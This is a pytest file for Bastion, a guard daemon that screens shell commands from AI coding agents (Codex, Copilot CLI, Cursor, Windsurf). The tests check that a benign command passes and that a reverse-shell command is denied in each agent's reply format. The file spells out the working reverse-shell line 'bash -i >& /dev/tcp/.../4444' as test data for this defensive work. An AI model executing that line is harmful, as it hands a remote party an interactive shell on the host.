"""Both hook clients carry Codex, Copilot CLI, Cursor and Windsurf calls to the daemon and back.

Codex and Copilot payloads are recorded from the real clients (tests/data/agents/); the Cursor
and Windsurf payloads are **built from each vendor's hook documentation**, not recorded (no
client of theirs can run here), so these tests show that Bastion answers the documented shape
in the documented terms, not that a given Cursor or Windsurf build obeys it. The real Codex
and Copilot CLI obey their replies: tests/e2e/test_codex.py, tests/e2e/test_copilot.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

BIN = Path(sys.executable).parent
DATA = Path(__file__).resolve().parents[1] / "data" / "agents"
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


def fixture(agent: str, name: str) -> dict[str, Any]:
    return dict(json.loads((DATA / agent / f"{name}.json").read_text())["payload"])


def with_command(agent: str, command: str) -> dict[str, Any]:
    if agent == "codex":
        return {**fixture(agent, "PreToolUse-Bash"), "tool_input": {"command": command}}
    if agent == "copilot":
        data = fixture(agent, "PreToolUse-Bash")
        return {**data, "tool_input": {"command": command, "description": "run"}}
    if agent == "cursor":
        return {**fixture(agent, "beforeShellExecution"), "command": command}
    data = fixture(agent, "pre_run_command")
    return {**data, "tool_info": {**data["tool_info"], "command_line": command}}


def denied_reason(agent: str, out: subprocess.CompletedProcess[bytes]) -> str:
    """Our reason, read the way each agent reads a deny (and asserting it is one)."""
    if agent == "windsurf":  # documented: exit 2 blocks, stderr is shown
        assert out.returncode == 2, out
        return out.stderr.decode()
    assert out.returncode == 0, out
    reply = json.loads(out.stdout)
    if agent == "codex":
        assert reply["hookSpecificOutput"]["permissionDecision"] == "deny"
        return str(reply["hookSpecificOutput"]["permissionDecisionReason"])
    if agent == "copilot":
        assert reply["permissionDecision"] == "deny"
        return str(reply["permissionDecisionReason"])
    assert reply["permission"] == "deny"
    return str(reply["agent_message"])


AGENTS = ("codex", "copilot", "cursor", "windsurf")


def hook(client: Path, home: Path, agent: str, data: Any) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [str(client), agent], input=json.dumps(data).encode(), capture_output=True,
        env={**os.environ, "BASTION_HOME": str(home)}, timeout=60,
    )  # fmt: skip


@pytest.fixture
def running(home: Path) -> Iterator[Path]:
    subprocess.run([str(BIN / "bastion"), "up", "--home", str(home)], check=True,
                   capture_output=True, timeout=60)  # fmt: skip
    yield home
    subprocess.run([str(BIN / "bastion"), "down", "--home", str(home)], capture_output=True,
                   timeout=60)  # fmt: skip


def test_each_agent_benign_call_passes_and_reverse_shell_is_denied_in_its_terms(
    hook_client: Path, running: Path
) -> None:
    for agent in AGENTS:
        out = hook(hook_client, running, agent, with_command(agent, "git status --short"))
        assert out.returncode == 0 and out.stdout == b"", (agent, out)
        out = hook(hook_client, running, agent, with_command(agent, REVERSE_SHELL))
        assert denied_reason(agent, out).startswith("Bastion blocked"), (agent, out)


def test_unreadable_payloads_are_refused_for_every_agent(hook_client: Path, running: Path) -> None:
    for agent in AGENTS:
        out = hook(hook_client, running, agent, {"no": "event"})
        assert out.returncode == 2 and b"denied to be safe" in out.stderr, (agent, out)


def test_the_sessions_are_recorded_under_each_agent(hook_client: Path, running: Path) -> None:
    ids: dict[str, Callable[[dict[str, Any]], Any]] = {
        "codex": lambda d: d["session_id"], "copilot": lambda d: d["session_id"],
        "cursor": lambda d: d["conversation_id"], "windsurf": lambda d: d["trajectory_id"],
    }  # fmt: skip
    for agent in AGENTS:
        hook(hook_client, running, agent, with_command(agent, "ls"))
    listed = subprocess.run([str(BIN / "bastion"), "sessions", "--json", "--home", str(running)],
                            capture_output=True, timeout=60, check=True)  # fmt: skip
    sessions = {s["id"]: json.dumps(s.get("agent")) for s in json.loads(listed.stdout)}
    for agent in AGENTS:
        sid = ids[agent](with_command(agent, "ls"))
        assert sid in sessions and agent in sessions[sid], (agent, sessions)
